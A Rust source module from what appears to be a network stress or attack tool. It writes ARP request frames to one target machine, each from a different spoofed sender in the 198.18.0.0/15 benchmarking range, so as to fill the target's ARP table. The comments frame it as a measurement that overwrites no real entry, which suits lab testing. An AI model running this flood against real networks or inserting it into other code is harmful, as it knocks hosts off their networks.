//! ARP requests to everybody for one address, each by a sender of another address.
//!
//! Who has the address answers each and notes its sender (`net/ipv4/arp.c`, `arp_process`), until its table is full. The senders
//! are of 198.18.0.0/15, which RFC 2544 keeps for measurements: nobody's entry is overwritten.

use std::io;
use std::net::Ipv4Addr;

use super::AttackError;
use super::ends::{Aim, Ends, one_machine, who_has};

pub(super) const SENDERS: u32 = 1 << 17;
const FIRST_SENDER: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);

/// Those of requests for one machine's address.
pub(super) fn ends(everybody: Ends, aim: &Aim) -> Result<Ends, AttackError> {
    Ok(Ends {
        to: Some(one_machine(aim)?),
        ..everybody
    })
}

pub(super) fn write(ends: &Ends, number: u64, frame: &mut Vec<u8>) -> io::Result<()> {
    let number = (number % u64::from(SENDERS)) as u32;
    let sender = Ipv4Addr::from(u32::from(FIRST_SENDER) + number);
    who_has(ends.source, sender, ends.address()?, frame)
}
